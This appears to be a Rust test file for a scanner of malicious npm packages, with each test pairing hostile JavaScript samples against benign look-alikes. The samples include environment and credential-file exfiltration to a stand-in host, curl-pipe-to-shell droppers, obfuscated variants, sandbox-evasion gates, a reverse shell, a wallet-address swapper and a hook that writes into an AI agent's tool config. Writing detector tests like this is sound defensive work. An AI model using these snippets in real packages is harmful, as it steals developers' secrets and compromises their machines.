//! The ids of the taxonomy by name: each with code that does it and, beside it, honest code that looks alike.
//! What each chain needs in detail is tested beside its kind, and what metadata tells (EXE-04, EXE-13, NEG-16,
//! NEG-17) where metadata is judged.
use crate::common::{clean, flagged, imported, installed, level, package, raw, run};
use cleanbill_js::compare;
use cleanbill_model::Level::{self, Block, Quarantine, Warn};

const SEND: &str = "fetch('https://in.elsewhere.example/c',{method:'POST',body:JSON.stringify(process.env)})";

fn with_manifest(manifest: &str, files: &[(&str, &str)]) -> cleanbill_js::Analysis {
    let mut all = vec![("package.json", manifest)];
    all.extend_from_slice(files);
    run(package(&all))
}

/// Every spelling of the same theft is the same theft.
#[track_caller]
fn still_stolen(code: &str) {
    flagged(&installed(code), "FLO-01", Block);
}

#[track_caller]
fn aggravated(code: &str, id: &str, wanted: bool) {
    let found = imported(code);
    let has = found
        .chains
        .iter()
        .any(|c| c.aggravations.iter().any(|a| a == id));
    assert_eq!(has, wanted, "{id} in {code}\n{:#?}", found.chains);
}

// ---- who starts it ----

#[test]
fn exe_01_a_lifecycle_script_is_an_entry_and_a_test_script_none() {
    for name in ["preinstall", "install", "postinstall"] {
        let manifest = format!(
            r#"{{"name":"case","version":"1.0.0","scripts":{{"{name}":"node lib/go.js && echo done"}}}}"#
        );
        flagged(&with_manifest(&manifest, &[("lib/go.js", SEND)]), "FLO-01", Block);
    }
    let manifest = r#"{"name":"case","version":"1.0.0","scripts":{"test":"node lib/go.js"}}"#;
    let found = with_manifest(manifest, &[("lib/go.js", SEND)]);
    assert!(level(&found, "FLO-01") < Some(Block));
}

#[test]
fn exe_03_a_hook_that_turns_to_a_nested_package_or_another_ending_is_followed() {
    for (command, file) in [
        ("node lib/setup.dat", "lib/setup.dat"),
        ("node ./node_modules/inner/run.js", "node_modules/inner/run.js"),
        ("node lib/readme.txt", "lib/readme.txt"),
    ] {
        let manifest =
            format!(r#"{{"name":"case","version":"1.0.0","scripts":{{"postinstall":"{command}"}}}}"#);
        flagged(&with_manifest(&manifest, &[(file, SEND)]), "FLO-01", Block);
        clean(&with_manifest(&manifest, &[(file, "console.log('thank you')")]));
    }
}

#[test]
fn exe_05_what_an_import_does_by_itself_is_told_from_what_it_offers() {
    flagged(&imported(SEND), "FLO-01", Block);
    flagged(&imported(&format!("(function(){{{SEND}}})()")), "FLO-01", Block);
    let offered = imported("exports.read=(name)=>process.env[name]");
    clean(&offered);
}

#[test]
fn exe_07_every_condition_of_exports_is_an_entry() {
    let manifest = r#"{"name":"case","version":"1.0.0","exports":{".":{"types":"./t.d.ts","browser":"./b.js","import":"./m.mjs","require":"./c.js"}}}"#;
    let plain = "exports.a=1";
    for evil in ["b.js", "c.js"] {
        let of = |file: &str| if file == evil { SEND } else { plain };
        let files = [
            ("t.d.ts", "export declare const a: number;"),
            ("b.js", of("b.js")),
            ("m.mjs", "export const a=1"),
            ("c.js", of("c.js")),
        ];
        flagged(&with_manifest(manifest, &files), "FLO-01", Block);
    }
    let files = [
        ("t.d.ts", "export declare const a: number;"),
        ("b.js", plain),
        ("m.mjs", "export const a=1"),
        ("c.js", plain),
    ];
    clean(&with_manifest(manifest, &files));
}

#[test]
fn exe_08_code_in_the_folder_of_tests_counts_once_something_reaches_it() {
    let manifest = r#"{"name":"case","version":"1.0.0","main":"index.js"}"#;
    let reached = [
        ("index.js", "require('./test/fixtures/load')"),
        ("test/fixtures/load.js", SEND),
    ];
    flagged(&with_manifest(manifest, &reached), "FLO-01", Block);
    let idle = [("index.js", "exports.a=1"), ("test/fixtures/load.js", SEND)];
    clean(&with_manifest(manifest, &idle));
}

#[test]
fn exe_10_another_runtime_that_is_fetched_to_run_hidden_code_is_held_and_a_bundler_is_not() {
    let hidden = "const cp=require('child_process');cp.execSync('curl -fsSL https://get.elsewhere.example/bun | bash');cp.spawn('bun',['run','x.js'],{detached:true,stdio:'ignore'}).unref()";
    assert!(installed(hidden).level() >= Some(Quarantine));
    clean(&imported(
        "exports.build=()=>require('child_process').spawnSync('bun',['build','src/index.ts'])",
    ));
}

#[test]
fn exe_12_native_code_and_web_assembly_are_capabilities_and_no_verdict() {
    clean(&imported("module.exports=require('./build/Release/addon.node')"));
    clean(&imported(
        "const fs=require('fs');WebAssembly.instantiate(fs.readFileSync(__dirname+'/a.wasm'),{}).then((m)=>{exports.m=m})",
    ));
}

// ---- where it starts from ----

#[test]
fn src_03_credential_files_are_a_source_in_a_home_and_nothing_in_the_project() {
    let steal = |path: &str| {
        format!(
            "const fs=require('fs'),os=require('os'),path=require('path');fetch('https://in.elsewhere.example/k',{{method:'POST',body:fs.readFileSync({path})}})"
        )
    };
    for path in [
        "path.join(os.homedir(),'.ssh','id_rsa')",
        "os.homedir()+'/.aws/credentials'",
        "`${process.env.HOME}/.npmrc`",
        "path.join(os.homedir(),'.config','solana','id.json')",
        "os.homedir()+'/.docker/config.json'",
    ] {
        flagged(&installed(&steal(path)), "FLO-01", Block);
    }
    clean(&imported(
        "const fs=require('fs');exports.rc=()=>fs.readFileSync('.npmrc','utf8').split('\\n')",
    ));
}

#[test]
fn src_04_the_metadata_of_a_cloud_machine_is_a_source() {
    let code = "fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/x').then(r=>r.text()).then(t=>fetch('https://in.elsewhere.example/m',{method:'POST',body:t}))";
    flagged(&installed(code), "FLO-01", Quarantine);
    clean(&imported(
        "exports.region=()=>fetch('http://169.254.169.254/latest/meta-data/placement/region').then(r=>r.text())",
    ));
}

#[test]
fn src_05_the_inside_of_a_runner_is_read_by_nobody_honest() {
    let code = "const fs=require('fs');for(const p of fs.readdirSync('/proc')){try{const m=fs.readFileSync('/proc/'+p+'/mem');fetch('https://in.elsewhere.example/r',{method:'POST',body:m})}catch{}}";
    assert!(installed(code).level() >= Some(Quarantine));
    clean(&imported(
        "const fs=require('fs');exports.memory=()=>fs.readFileSync('/proc/meminfo','utf8').match(/MemTotal: +(\\d+)/)[1]",
    ));
}

#[test]
fn src_07_the_clipboard_is_a_source_and_copying_to_it_none() {
    let code = "navigator.clipboard.readText().then((t)=>fetch('https://in.elsewhere.example/p',{method:'POST',body:t}))";
    assert!(imported(code).level() >= Some(Quarantine));
    clean(&imported(
        "exports.copy=(text)=>navigator.clipboard.writeText(text)",
    ));
}

// ---- what becomes of it ----

#[test]
fn flo_09_a_dead_drop_tells_where_to_go() {
    let code = "const https=require('https');https.get('https://pastebin.com/raw/abc',(r)=>{let t='';r.on('data',(c)=>t+=c);r.on('end',()=>{fetch(t.trim()).then((a)=>a.text()).then((s)=>eval(s))})})";
    flagged(&installed(code), "FLO-03", Block);
    clean(&imported(
        "exports.paste=(id)=>fetch('https://pastebin.com/raw/'+id).then((r)=>r.text())",
    ));
}

// ---- how it hides ----

#[test]
fn obf_01_strings_put_together_are_read_together() {
    for host in [
        "'https://in.elsew'+'here.example/c'",
        "['https:/','/in.elsewhere','.example/c'].join('')",
        "'c/elpmaxe.erehwesle.ni//:sptth'.split('').reverse().join('')",
        "String.fromCharCode(104,116,116,112,115)+'://in.elsewhere.example/c'",
        "'https://in.@.example/c'.replace('@','elsewhere')",
        "[104,116,116,112,115].map((c)=>String.fromCharCode(c)).join('')+'://in.elsewhere.example/c'",
    ] {
        still_stolen(&format!(
            "fetch({host},{{method:'POST',body:JSON.stringify(process.env)}})"
        ));
    }
    clean(&installed(
        "console.log(['see','the','page'].join(' '),'olleh'.split('').reverse().join(''))",
    ));
}

#[test]
fn obf_02_members_by_computed_names_are_members() {
    for all in [
        "process['e'+'nv']",
        "globalThis['pro'+'cess']['env']",
        "Reflect.get(process,'env')",
        "(({env:e})=>e)(process)",
    ] {
        still_stolen(&format!(
            "fetch('https://in.elsewhere.example/c',{{method:'POST',body:JSON.stringify({all})}})"
        ));
    }
    clean(&installed(
        "console.log(process['ver'+'sion'],globalThis['Ma'+'th'].PI)",
    ));
}

#[test]
fn obf_03_indirect_loaders_load() {
    for load in [
        "module.constructor._load('https')",
        "process.mainModule.require('https')",
        "require('module').createRequire(__filename)('https')",
        "process.getBuiltinModule('https')",
    ] {
        still_stolen(&format!(
            "const h={load};const r=h.request({{hostname:'in.elsewhere.example',method:'POST'}});r.end(JSON.stringify(process.env))"
        ));
    }
    clean(&imported(
        "const r=require('module').createRequire(__filename);exports.v=r('./package.json').version",
    ));
}

#[test]
fn obf_04_the_constructor_of_a_function_makes_code() {
    let text = SEND.replace('\'', "\\'");
    still_stolen(&format!("(()=>{{}}).constructor('{text}')()"));
    still_stolen(&format!("Function('{text}')()"));
    clean(&imported("exports.root=Function('return this')()"));
}

#[test]
fn obf_05_escapes_are_letters() {
    still_stolen(
        "fetch('\\x68\\x74\\x74\\x70\\x73://in.elsewhere.example/c',{method:'POST',body:JSON.stringify(process.\\u0065nv)})",
    );
    clean(&imported("exports.table={'\\x41':'\\u00e4','\\x42':'\\u00f6'}"));
}

#[test]
fn obf_07_packed_code_is_unpacked() {
    let packed = "eval(function(p,a,c,k,e,d){while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+c.toString(a)+'\\\\b','g'),k[c])}}return p}('0(1.2)',3,3,'eval|process|argv'.split('|'),0,{}))";
    let found = installed(packed);
    assert!(found.level() >= Some(Warn), "{:#?}", found.structural);
    clean(&imported("exports.pack=(words)=>words.join('|').split('|')"));
}

#[test]
fn obf_09_bytes_behind_the_end_of_a_picture_are_told() {
    let mut picture = b"\x89PNG\r\n\x1a\n".to_vec();
    picture.extend_from_slice(&[0, 0, 0, 0]);
    picture.extend_from_slice(b"IEND\xaeB`\x82");
    let manifest: &[u8] = br#"{"name":"case","version":"1.0.0","main":"index.js"}"#;
    let of = |bytes: &[u8]| {
        run(raw(&[
            ("package.json", manifest),
            ("index.js", b"exports.a=1"),
            ("logo.png", bytes),
        ]))
    };
    assert_eq!(level(&of(&picture), "OBF-09"), None);
    picture.extend_from_slice(
        "require('child_process').exec('node -e payload that goes on and on and on and on')".as_bytes(),
    );
    flagged(&of(&picture), "OBF-09", Warn);
}

#[test]
fn obf_11_turned_text_beside_code_is_told_and_names_in_other_scripts_are_not() {
    flagged(
        &imported("const admin=false;/*\u{202e} } if(admin) \u{2066}*/exports.a=admin"),
        "OBF-11",
        Warn,
    );
    assert_eq!(
        level(&imported("exports.words={straße:'улица',price:'¥'}"), "OBF-11"),
        None
    );
}

#[test]
fn obf_13_code_under_another_ending_is_code_once_it_is_loaded() {
    let manifest = r#"{"name":"case","version":"1.0.0","main":"index.js"}"#;
    let loads = "const fs=require('fs');eval(fs.readFileSync(__dirname+'/logo.png','utf8'))";
    let found = with_manifest(manifest, &[("index.js", loads), ("logo.png", SEND)]);
    assert!(found.level() >= Some(Quarantine));
    clean(&with_manifest(
        manifest,
        &[
            (
                "index.js",
                "exports.logo=require('fs').readFileSync(__dirname+'/logo.png')",
            ),
            ("logo.png", "not a picture"),
        ],
    ));
}

#[test]
fn obf_14_a_flow_over_three_files_is_one_flow() {
    let manifest = r#"{"name":"case","version":"1.0.0","scripts":{"postinstall":"node a.js"}}"#;
    let files = [
        ("a.js", "require('./c')(require('./b')())"),
        ("b.js", "module.exports=()=>JSON.stringify(process.env)"),
        (
            "c.js",
            "module.exports=(body)=>fetch('https://in.elsewhere.example/c',{method:'POST',body})",
        ),
    ];
    flagged(&with_manifest(manifest, &files), "FLO-01", Block);
    let honest = [files[0], ("b.js", "module.exports=()=>'installed'"), files[2]];
    assert!(level(&with_manifest(manifest, &honest), "FLO-01").is_none());
}

#[test]
fn obf_16_what_cannot_be_read_is_said_and_never_clean() {
    let broken = imported("exports.a = = 1; fetch(");
    assert!(!broken.unassessed.is_empty());
    assert!(imported("exports.a = 1").unassessed.is_empty());
}

// ---- how it evades ----

#[test]
fn ant_01_what_is_asked_before_a_flow_is_told_beside_it() {
    for gated in [
        format!("if(!process.env.CI){{{SEND}}}"),
        format!("const ci=process.env.GITHUB_ACTIONS;if(ci){{}}else{{{SEND}}}"),
        format!("(function(){{if(new Date().getFullYear()<2030)return;{SEND}}})()"),
        format!("const os=require('os');const bad=()=>os.hostname().includes('sandbox');if(!bad()){SEND}"),
        format!("Intl.DateTimeFormat().resolvedOptions().timeZone.startsWith('Europe')||{SEND}"),
    ] {
        aggravated(&gated, "ANT-01", true);
    }
    for plain in [
        SEND.to_owned(),
        format!("if(process.argv.length>2){{{SEND}}}"),
        format!("if(process.env.CI)console.log('build machine');{SEND}"),
    ] {
        aggravated(&plain, "ANT-01", false);
    }
    clean(&imported(
        "if(!process.env.CI)require('child_process').spawn('open',['http://localhost:3000']);exports.a=1",
    ));
}

#[test]
fn ant_02_a_long_wait_before_a_flow_is_told_beside_it() {
    for waiting in [
        format!("setTimeout(()=>{{{SEND}}},37*1000)"),
        format!("(async()=>{{await new Promise((r)=>setTimeout(r,120000));{SEND}}})()"),
    ] {
        aggravated(&waiting, "ANT-02", true);
    }
    for soon in [
        SEND.to_owned(),
        format!("setTimeout(()=>{{{SEND}}},250)"),
        format!("setTimeout(()=>console.log('hello'),60000);{SEND}"),
    ] {
        aggravated(&soon, "ANT-02", false);
    }
    clean(&imported(
        "exports.retry=(f)=>f().catch(()=>new Promise((done)=>setTimeout(done,60000)).then(f))",
    ));
}

// ---- what keeps honest code out of it ----

#[test]
fn neg_01_a_source_a_hook_or_a_disguise_alone_is_no_chain() {
    clean(&installed(
        "console.log(Object.keys(process.env).length,require('os').hostname())",
    ));
    clean(&installed(
        "require('fs').readFileSync(require('os').homedir()+'/.gitconfig')",
    ));
}

#[test]
fn neg_02_a_host_of_ones_own_excuses_and_a_paste_site_never_does() {
    let manifest =
        r#"{"name":"case","version":"1.0.0","main":"index.js","homepage":"https://case.example/"}"#;
    let to = |host: &str| {
        with_manifest(
            manifest,
            &[(
                "index.js",
                &format!(
                    "exports.send=(e)=>fetch('https://{host}/in',{{method:'POST',body:JSON.stringify({{e,token:process.env.DEPLOY_TOKEN,key:process.env.SIGNING_SECRET}})}})"
                ),
            )],
        )
    };
    clean(&to("api.case.example"));
    assert!(to("webhook.site").level() >= Some(Warn));
}

#[test]
fn neg_03_a_secret_goes_to_its_own_provider_and_a_credential_file_to_nobody() {
    clean(&imported(
        "exports.me=()=>fetch('https://api.github.com/user',{headers:{authorization:'token '+process.env.GITHUB_TOKEN}})",
    ));
    let file = "fetch('https://in.elsewhere.example/u',{method:'POST',body:require('fs').readFileSync(require('os').homedir()+'/.git-credentials')})";
    flagged(&imported(file), "FLO-01", Block);
}

#[test]
fn neg_04_an_installer_that_fetches_its_own_release_is_no_dropper_and_one_from_elsewhere_is() {
    let from = |url: &str| {
        with_manifest(
            r#"{"name":"case","version":"1.0.0","repository":"https://github.com/case/case","scripts":{"postinstall":"node get.js"}}"#,
            &[(
                "get.js",
                &format!(
                    "const fs=require('fs'),path=require('path'),cp=require('child_process');fetch('{url}').then((r)=>r.arrayBuffer()).then((b)=>{{const f=path.join(__dirname,'tool');fs.writeFileSync(f,Buffer.from(b));fs.chmodSync(f,493);cp.execFileSync(f,['--version'])}})"
                ),
            )],
        )
    };
    clean(&from(
        "https://github.com/case/case/releases/download/v1.0.0/tool-linux",
    ));
    flagged(
        &from("https://files.elsewhere.example/tool-linux"),
        "FLO-06",
        Block,
    );
}

#[test]
fn neg_05_a_native_build_is_a_build() {
    let gyp = "{'targets':[{'target_name':'a','sources':['a.cc'],'include_dirs':['<!(node -p \"require(\\'node-addon-api\\').include\")']}]}";
    let manifest =
        r#"{"name":"case","version":"1.0.0","main":"index.js","scripts":{"install":"node-gyp rebuild"}}"#;
    clean(&with_manifest(
        manifest,
        &[
            ("binding.gyp", gyp),
            ("a.cc", "int a;"),
            ("index.js", "exports.a=1"),
        ],
    ));
    let hidden = "{'targets':[{'target_name':'a','type':'none','sources':['<!(node index.js > /dev/null 2>&1 && echo a.cc)']}]}";
    let bare = r#"{"name":"case","version":"1.0.0","main":"index.js"}"#;
    flagged(
        &with_manifest(bare, &[("binding.gyp", hidden), ("index.js", "exports.a=1")]),
        "EXE-02",
        Block,
    );
}

#[test]
fn neg_06_the_look_of_a_bundle_says_nothing_and_what_it_does_still_counts() {
    let mut bundle = String::from("(()=>{var e={");
    for at in 0..400 {
        bundle.push_str(&format!("{at}:(e,t,r)=>{{\"use strict\";const n=r({}),o=\"\\u0041\";t.f{at}=(e)=>new Function(\"e\",\"return e\")(e)||n.x(o)}},", at + 1));
    }
    bundle.push_str("},t={};function r(n){if(t[n])return t[n].exports;var o=t[n]={exports:{}};return e[n]&&e[n](o,o.exports,r),o.exports}module.exports=r(0)})();\n//# sourceMappingURL=index.js.map\n");
    clean(&imported(&bundle));
    flagged(
        &imported(&bundle.replace("module.exports=r(0)", &format!("module.exports=r(0);{SEND}"))),
        "FLO-01",
        Block,
    );
}

#[test]
fn neg_07_weak_sights_in_many_files_do_not_add_up() {
    let code = "exports.render=(t)=>new Function('data','return `'+t+'`')";
    let files: Vec<(String, String)> = (0..120)
        .map(|at| {
            (
                format!("lib/e{at}.js"),
                code.replace("render", &format!("render{at}")),
            )
        })
        .collect();
    let all: String = (0..120).map(|at| format!("require('./lib/e{at}');")).collect();
    let mut list: Vec<(&str, &str)> = vec![("index.js", &all)];
    list.extend(files.iter().map(|(p, t)| (p.as_str(), t.as_str())));
    clean(&with_manifest(
        r#"{"name":"case","version":"1.0.0","main":"index.js"}"#,
        &list,
    ));
}

#[test]
fn neg_08_idioms_of_polyfills_are_no_generated_code() {
    for idiom in [
        "Function('return this')()",
        "new Function('return import(\"./a.mjs\")')",
        "(0,eval)('this')",
        "try{new Function('')}catch(e){}",
    ] {
        let found = imported(&format!("exports.a=1;{idiom}"));
        clean(&found);
        assert!(found.level() < Some(Warn), "{idiom}: {:#?}", found.chains);
    }
}

#[test]
fn neg_09_an_official_installer_in_a_readable_script_is_not_held() {
    let code = "const cp=require('child_process');try{cp.execSync('bun --version')}catch{console.log('this package works best with bun: curl -fsSL https://bun.sh/install | bash')}";
    clean(&installed(code));
}

#[test]
fn neg_11_what_the_release_before_did_is_no_news() {
    let of = |version: &str| {
        with_manifest(
            &format!(r#"{{"name":"case","version":"{version}","main":"index.js"}}"#),
            &[(
                "index.js",
                "exports.a=()=>fetch('https://tags.elsewhere.example/t',{method:'POST',body:process.env.USER})",
            )],
        )
    };
    let delta = compare(&of("1.0.0"), &of("1.0.1"));
    assert!(delta.new_chains.is_empty());
    assert_eq!(delta.level, None);
}

#[test]
fn neg_12_indicators_that_stand_as_data_reach_no_sink() {
    clean(&imported(
        "exports.rules=[/curl .*\\| *sh/,'https://pastebin.com/raw/','rm -rf /','stratum+tcp://pool.elsewhere.example',/\\.ssh\\/id_rsa/];exports.scan=(t)=>exports.rules.filter((r)=>t.match(r))",
    ));
    flagged(
        &installed("require('child_process').exec('curl https://in.elsewhere.example/a | sh')"),
        "FLO-03",
        Block,
    );
}

#[test]
fn neg_13_tables_of_addresses_are_tables() {
    let table = "exports.tokens={a:'0x1111111111111111111111111111111111111111',b:'0x2222222222222222222222222222222222222222',c:'0x3333333333333333333333333333333333333333'}";
    clean(&imported(&format!(
        "{table};exports.sign=(privateKey,hash)=>require('crypto').sign(null,hash,privateKey)"
    )));
    flagged(
        &imported(&format!(
            "{table};const ask=window.fetch;window.fetch=(...r)=>ask(...r).then(async(a)=>new Response((await a.text()).replace(/0x[0-9a-f]{{40}}/g,exports.tokens.a)))"
        )),
        "FLO-11",
        Block,
    );
}

#[test]
fn neg_14_hooks_of_developers_are_nothing() {
    for hook in [
        "husky install",
        "patch-package",
        "tsc -p .",
        "svelte-kit sync",
        "node -e \"console.log('thanks')\"",
    ] {
        let manifest = format!(
            r#"{{"name":"case","version":"1.0.0","main":"index.js","scripts":{{"prepare":{hook:?},"postinstall":{hook:?}}}}}"#
        );
        clean(&with_manifest(&manifest, &[("index.js", "exports.a=1")]));
    }
}

#[test]
fn neg_15_an_agents_own_tool_is_the_users_and_a_hook_that_writes_into_it_is_not() {
    let write = "const fs=require('fs'),os=require('os'),path=require('path');const f=path.join(os.homedir(),'.cursor','mcp.json');fs.writeFileSync(f,JSON.stringify({mcpServers:{case:{command:'node',args:['/tmp/x.js']}}}))";
    let asked = with_manifest(
        r#"{"name":"case","version":"1.0.0","bin":{"case":"cli.js"}}"#,
        &[("cli.js", &format!("if(process.argv[2]==='setup'){{{write}}}"))],
    );
    clean(&asked);
    assert!(installed(write).level() >= Some(Quarantine));
}

#[test]
fn neg_18_obfuscation_alone_warns() {
    let names: String = (0..60)
        .map(|at| format!("var _0x{at:04x}a=_0x{:04x}b({at});", at + 1))
        .collect();
    let found = imported(&format!("{names}function _0x0001b(x){{return x}}exports.a=1"));
    assert!(found.level() <= Some(Warn), "{:#?}", found.structural);
}

#[test]
fn neg_19_a_shell_and_a_socket_in_one_file_are_no_reverse_shell_until_they_are_wired() {
    let apart = "const net=require('net'),cp=require('child_process');exports.ping=(h)=>net.connect(22,h);exports.sh=(c)=>cp.spawn('sh',['-c',c],{stdio:'inherit'})";
    assert_eq!(level(&imported(apart), "FLO-07"), None);
    let wired = "const s=require('net').connect(4444,'in.elsewhere.example',()=>{const p=require('child_process').spawn('/bin/sh');s.pipe(p.stdin);p.stdout.pipe(s)})";
    flagged(&imported(wired), "FLO-07", Block);
}

#[test]
fn neg_20_a_block_shows_its_way() {
    for code in [
        SEND,
        "require('child_process').exec('curl https://in.elsewhere.example/a | sh')",
    ] {
        let found = installed(code);
        let chains = || found.chains.iter().filter(|c| c.level == Level::Block);
        assert!(chains().next().is_some());
        for chain in chains() {
            assert!(
                chain.steps.iter().all(|s| !s.file.is_empty() && s.line > 0),
                "{:#?}",
                chain.steps
            );
        }
    }
}
